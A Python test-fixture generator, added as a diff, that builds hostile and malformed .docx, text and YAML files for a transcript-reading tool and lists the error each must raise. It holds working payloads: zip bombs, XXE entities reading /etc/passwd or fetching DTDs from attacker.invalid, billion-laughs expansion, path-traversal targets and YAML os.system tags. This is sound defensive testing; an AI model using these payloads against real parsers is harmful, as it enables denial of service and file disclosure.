@@ -1,0 +1,346 @@
+"""Generate a corpus of hostile and broken input files, and what mcqual must answer for each.
+
+``python tests/hostile.py OUTDIR`` writes every case into OUTDIR (plus ``cases.tsv``:
+file, reader, expected). Importable: :data:`CASES` lists :class:`Case` objects and
+:func:`write_all` writes them. Nothing here is hand-picked bytes from the wild: each file
+is built by a small function so the corpus is reproducible and can be extended.
+
+``expected`` is the numbered error (``"E104"``) or ``"ok"`` when the file is valid and must
+be read. ``reader`` is ``transcript`` (``mq.read_transcripts`` of one file) or
+``codebook`` (``mq.load_codebook``).
+"""
+from __future__ import annotations
+
+import struct
+import sys
+import zipfile
+import zlib
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+from docx_factory import NS, make_docx, p, table  # noqa: E402
+
+CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+      'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+      'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>').encode()
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
+
+
+def _rels(target: str, external: bool = False) -> bytes:
+    mode = ' TargetMode="External"' if external else ""
+    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+            f'package/2006/relationships"><Relationship Id="rId1" Type="{REL}" Target="{target}"{mode}/>'
+            '</Relationships>').encode()
+
+
+def _document(body: str, prolog: str = "") -> bytes:
+    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document {NS}><w:body>{body}</w:body>'
+            '</w:document>').encode()
+
+
+def _zip(path: Path, parts: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in parts.items():
+            zf.writestr(name, data)
+
+
+def _package(path: Path, document: bytes, *, target: str = "word/document.xml", rels: bytes | None = None,
+             main: str | None = "word/document.xml") -> None:
+    parts = {"[Content_Types].xml": CT, "_rels/.rels": rels if rels is not None else _rels(target)}
+    if main:
+        parts[main] = document
+    _zip(path, parts)
+
+
+# --- raw zip writing (for bombs whose headers lie or whose data is never materialised) -------------
+
+def _raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int, int]]) -> None:
+    """Write a zip from (name, stored bytes, method, crc, compressed size, declared size) by hand."""
+    central, offset = [], 0
+    with open(path, "wb") as fh:
+        for name, data, method, crc, csize, usize in entries:
+            n = name.encode()
+            head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, csize, usize, len(n), 0)
+            fh.write(head + n)
+            fh.write(data)
+            central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc,
+                                       csize, usize, len(n), 0, 0, 0, 0, 0, offset) + n)
+            offset += len(head) + len(n) + len(data)
+        cd = b"".join(central)
+        fh.write(cd)
+        fh.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(cd), offset, 0))
+
+
+def _deflated(data: bytes) -> tuple[bytes, int, int, int]:
+    c = zlib.compressobj(6, zlib.DEFLATED, -15)
+    raw = c.compress(data) + c.flush()
+    return raw, zlib.crc32(data), len(raw), len(data)
+
+
+def _zero_bomb(gib: float) -> tuple[bytes, int, int]:
+    """A raw deflate stream of ``gib`` GiB of spaces inside an XML element, built without inflating it."""
+    mib = 2**20
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    head = b'<?xml version="1.0"?><w:document ' + NS.encode() + b"><w:body><w:p><w:r><w:t>"
+    out = [c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
+    block = b" " * mib
+    chunk = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)  # after a full flush the history is reset:
+    n = int(gib * 1024)                                      # the same bytes encode every further MiB
+    out.append(chunk * n)
+    out.append(c.compress(b"</w:t></w:r></w:p></w:body></w:document>") + c.flush())
+    crc = zlib.crc32(head)
+    for _ in range(n):
+        crc = zlib.crc32(block, crc)
+    size = len(head) + n * mib + len(b"</w:t></w:r></w:p></w:body></w:document>")
+    crc = zlib.crc32(b"</w:t></w:r></w:p></w:body></w:document>", crc)
+    return b"".join(out), crc, size
+
+
+def zip_bomb(path: Path, *, lie: bool = False, gib: float = 2.0) -> None:
+    """A .docx whose document.xml inflates to ``gib`` GiB; ``lie`` declares a tiny size in the headers."""
+    data, crc, size = _zero_bomb(gib)
+    entries = [("[Content_Types].xml", *_deflated(CT)), ("_rels/.rels", *_deflated(_rels("word/document.xml")))]
+    entries = [(n, d, 8, crc_, cs, us) for n, d, crc_, cs, us in entries]
+    entries.append(("word/document.xml", data, 8, crc, len(data), 4096 if lie else size))
+    _raw_zip(path, entries)
+
+
+# --- OLE compound files -------------------------------------------------------------------------
+
+def ole(path: Path, streams: list[str]) -> None:
+    """A minimal OLE2 compound file whose directory names ``streams`` (what the sniffer looks at)."""
+    header = bytearray(512)
+    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
+    struct.pack_into("<I", header, 48, 1)  # first directory sector
+    directory = bytearray(512)
+    for i, name in enumerate(["Root Entry", *streams][:4]):
+        raw = name.encode("utf-16-le") + b"\0\0"
+        directory[i * 128:i * 128 + len(raw)] = raw
+        struct.pack_into("<HB", directory, i * 128 + 64, len(raw), 5 if i == 0 else 2)
+    path.write_bytes(bytes(header) + bytes(512) + bytes(directory) + b"\0" * 4096)
+
+
+# --- the cases ----------------------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class Case:
+    """One hostile file: how to write it, how mcqual reads it, what must come out."""
+
+    name: str
+    filename: str
+    write: Callable[[Path], None]
+    expected: str
+    reader: str = "transcript"
+    note: str = ""
+
+
+def _good_docx(path: Path) -> None:
+    make_docx(path, [p("Interviewer: Do employers trust digital badges?"),
+                     p("R1: Only when the issuer is a chamber or a university.")])
+
+
+def _truncated(path: Path) -> None:
+    _good_docx(path)
+    data = path.read_bytes()
+    path.write_bytes(data[: len(data) // 2])
+
+
+def _missing_central_directory(path: Path) -> None:
+    _good_docx(path)
+    data = path.read_bytes()
+    path.write_bytes(data[: data.rfind(b"PK\x01\x02")])
+
+
+def _corrupt_member(path: Path) -> None:
+    _good_docx(path)
+    data = bytearray(path.read_bytes())
+    i = data.find(b"word/document.xml") + len(b"word/document.xml")
+    for k in range(i + 5, i + 40):
+        data[k] ^= 0x5A
+    path.write_bytes(bytes(data))
+
+
+XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+XXE_NET = '<!DOCTYPE w:document SYSTEM "http://attacker.invalid/evil.dtd">'
+PARAM = ('<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>')
+LAUGHS = ("<!DOCTYPE w:document [<!ENTITY lol \"lol\">"
+          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+                    for i in range(1, 10)) + "]>")
+QUADRATIC = '<!DOCTYPE w:document [<!ENTITY a "' + "x" * 50_000 + '">]>'
+
+
+def _entity_doc(prolog: str, ref: str) -> Callable[[Path], None]:
+    def write(path: Path) -> None:
+        _package(path, _document(p("Interviewer: Hello?") + f"<w:p><w:r><w:t>{ref}</w:t></w:r></w:p>", prolog))
+    return write
+
+
+def _xxe_in_rels(path: Path) -> None:
+    rels = _rels("word/document.xml").replace(b"?>", b"?>" + XXE.replace("w:document", "Relationships").encode(), 1)
+    _package(path, _document(p("Interviewer: Hello?")), rels=rels)
+
+
+def _xxe_in_core(path: Path) -> None:
+    make_docx(path, [p("Interviewer: Hello?"), p("R: Hi.")], core={"title": "t", "creator": "x"})
+    with zipfile.ZipFile(path) as zf:
+        parts = {n: zf.read(n) for n in zf.namelist()}
+    core = parts["docProps/core.xml"].decode()
+    parts["docProps/core.xml"] = core.replace("?>", "?>" + XXE.replace("w:document", "cp:coreProperties"), 1).replace(
+        "<dc:title>t</dc:title>", "<dc:title>&xxe;</dc:title>").encode()
+    _zip(path, parts)
+
+
+def _nested_tables(depth: int) -> Callable[[Path], None]:
+    def write(path: Path) -> None:
+        inner = p("R1: the deepest cell.")
+        for _ in range(depth):
+            inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
+        _package(path, _document(p("Interviewer: Tables?") + inner + p("")))
+    return write
+
+
+def _many_paragraphs(path: Path) -> None:
+    body = "".join(p(f"{'Interviewer' if i % 2 == 0 else 'R1'}: ok {i}.") for i in range(10_000))
+    _package(path, _document(body))
+
+
+def _prose(n_words: int, seed: int = 9) -> str:
+    """Pseudo-random prose (compresses like real text, about 4:1, not like a repeated phrase)."""
+    import random
+
+    rng = random.Random(seed)
+    vocab = [a + b for a in ("mi", "cro", "cre", "den", "ti", "al", "sta", "ck", "tru", "st", "ba", "dge")
+             for b in ("", "s", "ing", "ed", "ly", "er", "ion", "al")]
+    return " ".join(rng.choice(vocab) + rng.choice(("", "", "", ",", ".")) for _ in range(n_words))
+
+
+def _huge_paragraph(path: Path) -> None:
+    text = _prose(900_000)  # about 6 MB in one paragraph
+    _package(path, _document(p("Interviewer: Tell me everything.") + p("R1: " + text)))
+
+
+def _many_runs(path: Path) -> None:
+    runs = "".join(f"<w:r><w:t>w{i} </w:t></w:r>" for i in range(200_000))
+    _package(path, _document(f"<w:p><w:r><w:t>R1: </w:t></w:r>{runs}</w:p>"))
+
+
+def _many_members(path: Path) -> None:
+    parts = {"[Content_Types].xml": CT, "_rels/.rels": _rels("word/document.xml"),
+             "word/document.xml": _document(p("Interviewer: Hi?") + p("R1: Hello."))}
+    parts.update({f"junk/{i}.xml": b"<a/>" for i in range(20_000)})
+    _zip(path, parts)
+
+
+CODEBOOK_OK = "codes:\n  - id: trust\n    keywords: [accreditation, quality assurance]\n"
+YAML_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
+    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)) + \
+    "codes:\n  - id: x\n    keywords: *i\n"
+
+
+CASES: list[Case] = [
+    # valid files that must be read
+    Case("good_docx", "good.docx", _good_docx, "ok"),
+    Case("many_paragraphs", "many_paragraphs.docx", _many_paragraphs, "ok", note="10,000 tiny paragraphs"),
+    Case("huge_paragraph", "huge_paragraph.docx", _huge_paragraph, "ok", note="one 6 MB paragraph"),
+    Case("many_runs", "many_runs.docx", _many_runs, "ok", note="200,000 runs in one paragraph"),
+    Case("nested_tables_50", "nested_tables_50.docx", _nested_tables(50), "ok", note="tables nested 50 deep"),
+    Case("many_members", "many_members.docx", _many_members, "ok", note="20,000 junk zip members"),
+    Case("many_lines_txt", "many_lines.txt",
+         lambda f: f.write_text("".join(f"{'I' if i % 2 else 'R'}: line {i}\n" for i in range(10_000)),
+                                encoding="utf-8"), "ok"),
+    Case("huge_line_txt", "huge_line.txt",
+         lambda f: f.write_text("R1: " + "badges and stacking " * 400_000, encoding="utf-8"), "ok",
+         note="one 8 MB line"),
+    Case("cp1252_txt", "latin.txt",
+         lambda f: f.write_bytes("Interviewer: Was ist Ihre Rolle?\nR: Ich bin Ausbilderin in Köln.\n".encode("cp1252")),
+         "ok", note="stray non-UTF-8 bytes: decoded as Windows-1252"),
+    Case("codebook_ok", "codebook_ok.yaml", lambda f: f.write_text(CODEBOOK_OK), "ok", reader="codebook"),
+    # broken packages
+    Case("zero_bytes_docx", "zero.docx", lambda f: f.write_bytes(b""), "E108"),
+    Case("zero_bytes_txt", "zero.txt", lambda f: f.write_bytes(b""), "E108"),
+    Case("not_a_zip", "garbage.docx", lambda f: f.write_bytes(bytes(range(256)) * 64), "E101"),
+    Case("truncated_zip", "truncated.docx", _truncated, "E104"),
+    Case("no_central_directory", "no_cd.docx", _missing_central_directory, "E104"),
+    Case("corrupt_member", "corrupt_member.docx", _corrupt_member, "E104"),
+    Case("zip_bomb", "zip_bomb.docx", zip_bomb, "E107", note="document.xml inflates to 2 GiB"),
+    Case("zip_bomb_lying", "zip_bomb_lying.docx", lambda f: zip_bomb(f, lie=True), "E104",
+         note="2 GiB stream, headers declare 4 KiB: inflating stops at the declared size, CRC fails"),
+    Case("empty_zip", "empty_zip.docx", lambda f: _zip(f, {}), "E105"),
+    Case("no_rels_no_doc", "no_main.docx", lambda f: _zip(f, {"[Content_Types].xml": CT, "hello.txt": b"hi"}),
+         "E105"),
+    Case("rels_outside", "rels_outside.docx",
+         lambda f: _package(f, _document(p("x")), target="../../../../etc/passwd", main="word/other.xml"), "E105"),
+    Case("rels_absolute", "rels_absolute.docx",
+         lambda f: _package(f, _document(p("x")), target="/etc/passwd", main=None), "E105"),
+    Case("rels_external", "rels_external.docx",
+         lambda f: _package(f, b"", rels=_rels("http://attacker.invalid/doc.xml", external=True), main=None), "E105"),
+    Case("rels_missing_part", "rels_missing.docx",
+         lambda f: _package(f, b"", target="word/nothere.xml", main=None), "E105"),
+    Case("malformed_xml", "malformed.docx",
+         lambda f: _package(f, b"<w:document><w:body><w:p>unclosed"), "E106"),
+    Case("xxe_file", "xxe.docx", _entity_doc(XXE, "&xxe;"), "E106"),
+    Case("xxe_network_dtd", "xxe_dtd.docx", _entity_doc(XXE_NET, ""), "E106"),
+    Case("xxe_parameter_entity", "xxe_param.docx", _entity_doc(PARAM, ""), "E106"),
+    Case("billion_laughs", "laughs.docx", _entity_doc(LAUGHS, "&lol9;"), "E106"),
+    Case("quadratic_blowup", "quadratic.docx", _entity_doc(QUADRATIC, "&a;" * 2000), "E106"),
+    Case("xxe_in_rels", "xxe_rels.docx", _xxe_in_rels, "E106"),
+    Case("xxe_in_core_props", "xxe_core.docx", _xxe_in_core, "ok",
+         note="an unsafe optional part (core properties) is skipped; the body is read"),
+    Case("nested_tables_5000", "nested_tables_5000.docx", _nested_tables(5000), "E106",
+         note="deeper than the XML parser's depth limit"),
+    # other formats renamed .docx
+    Case("encrypted_word", "encrypted.docx", lambda f: ole(f, ["EncryptionInfo", "EncryptedPackage"]), "E102"),
+    Case("legacy_doc", "legacy.docx", lambda f: ole(f, ["WordDocument", "1Table"]), "E103"),
+    Case("rtf_renamed", "rtf.docx", lambda f: f.write_bytes(b"{\\rtf1\\ansi Interviewer: hello}"), "E116"),
+    Case("pdf_renamed", "pdf.docx", lambda f: f.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), "E116"),
+    # text files
+    Case("binary_txt", "binary.txt", lambda f: f.write_bytes(b"\x00\x01\x02\xff\xfe\x00" * 500), "E109"),
+    Case("undecodable_txt", "undecodable.txt",
+         lambda f: f.write_bytes(b"Interviewer: hello \x81\x8d\x8f\x90\x9d world\n"), "E109",
+         note="bytes invalid in UTF-8 and undefined in Windows-1252"),
+    Case("bad_bom_txt", "bad_bom.txt", lambda f: f.write_bytes(b"\xef\xbb\xbfR: ok \xff\xfe\xfd\n"), "E109"),
+    Case("docx_renamed_txt", "package.txt", _good_docx, "E110"),
+    Case("pdf_renamed_txt", "pdf.txt", lambda f: f.write_bytes(b"%PDF-1.4\n"), "E116"),
+    Case("vtt_no_header", "bad.vtt", lambda f: f.write_text("00:00.000 --> 00:01.000\nhello\n"), "E111"),
+    Case("srt_no_timing", "bad.srt", lambda f: f.write_text("1\nhello there\n\n2\nagain\n"), "E111"),
+    # codebooks
+    Case("yaml_alias_bomb", "laughs.yaml", lambda f: f.write_text(YAML_LAUGHS), "E211", reader="codebook"),
+    Case("yaml_python_tag", "python_tag.yaml",
+         lambda f: f.write_text("codes:\n  - id: !!python/object/apply:os.system ['echo pwned']\n"), "E211",
+         reader="codebook"),
+    Case("yaml_python_name", "python_name.yaml",
+         lambda f: f.write_text("codes: !!python/name:os.system\n"), "E211", reader="codebook"),
+    Case("yaml_invalid", "invalid.yaml", lambda f: f.write_text("codes:\n  - id: trust\n   bad: [\n"), "E201",
+         reader="codebook"),
+    Case("yaml_empty", "empty.yaml", lambda f: f.write_bytes(b""), "E207", reader="codebook"),
+]
+
+
+def write_all(outdir: str | Path, cases: list[Case] | None = None) -> list[tuple[Path, Case]]:
+    """Write every case into ``outdir``; returns (path, case) pairs."""
+    out = Path(outdir)
+    out.mkdir(parents=True, exist_ok=True)
+    written = []
+    for case in cases or CASES:
+        path = out / case.filename
+        case.write(path)
+        written.append((path, case))
+    return written
+
+
+def main(argv: list[str]) -> int:
+    if len(argv) != 1:
+        print("usage: python tests/hostile.py OUTDIR", file=sys.stderr)
+        return 2
+    written = write_all(argv[0])
+    lines = ["file\treader\texpected\tnote"] + [f"{p.name}\t{c.reader}\t{c.expected}\t{c.note}" for p, c in written]
+    (Path(argv[0]) / "cases.tsv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    print(f"wrote {len(written)} hostile files to {argv[0]}")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main(sys.argv[1:]))
